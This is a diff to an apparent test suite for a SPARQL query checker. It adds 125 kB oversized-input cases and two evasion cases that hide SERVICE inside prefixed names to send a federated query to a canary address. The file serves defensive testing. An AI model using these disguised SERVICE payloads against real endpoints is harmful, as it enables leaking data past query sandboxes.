@@ -120,6 +120,8 @@ LONG = (
     _filled("language tags", 'SELECT * { ?s ?p "a"@a', "-a"),
     _filled("at signs", "SELECT * { ", "@"),
     _filled("percent signs", "SELECT * { a:", "%"),
+    _filled("names under a host of 125 kB", f"PREFIX a: <http://{'a' * 125_000}> SELECT * {{ VALUES ?x {{ ", "a: ", "}}"),
+    _filled("prefixes without an IRI under a base of 125 kB", f"BASE <http://{'a' * 125_000}> ", "PREFIX a:<>", "ASK {}"),
     _filled("letters beyond Unicode's first plane", "SELECT * { ?s ?p '", "\U0001f600", "' }"),
     _filled("zero-width letters", "SELECT * { ?a", "\u200d"),
     _filled("nothing but NUL", "", "\0"),
@@ -129,6 +131,14 @@ OUTSIDE = (
     _attack("SERVICE SILENT", f"SELECT * {{ service silent <{CANARY}/2> {{ {ALL} }} }}"),
     _attack("SERVICE by a variable", f"SELECT * {{ BIND(<{CANARY}/3> AS ?x) SERVICE ?x {{ {ALL} }} }}"),
     _attack("SERVICE in escapes", f"SELECT * {{ \\u0053\\U00000045RVICE <{CANARY}/4> {{ {ALL} }} }}"),
+    _attack(
+        "SERVICE in a name after a name with the prefix GRAPH",
+        f"PREFIX GRAPH: <x:g> PREFIX x: <{CANARY}/12> ASK {{ ?t a GRAPH:o SERVICEx:y {{ {ALL} }} }}",
+    ),
+    _attack(
+        "SERVICE SILENT in a name after a name with the prefix named",
+        f"PREFIX mynamed: <x:g> PREFIX x: <{CANARY}/13> ASK {{ ?t a mynamed:o SERVICESILENTx:y {{ {ALL} }} }}",
+    ),
     _attack("SERVICE deep down", f"ASK {{ FILTER EXISTS {{ {{ SELECT * {{ SERVICE <{CANARY}/5> {{ {ALL} }} }} }} }} }}"),
     _attack("SERVICE after a comment that is none", f"SELECT * {{ ?s <x:#> ?o . SERVICE <{CANARY}/6> {{ {ALL} }} }}"),
     _attack("FROM an address", f"SELECT * FROM <{CANARY}/7> {{ {ALL} }}"),
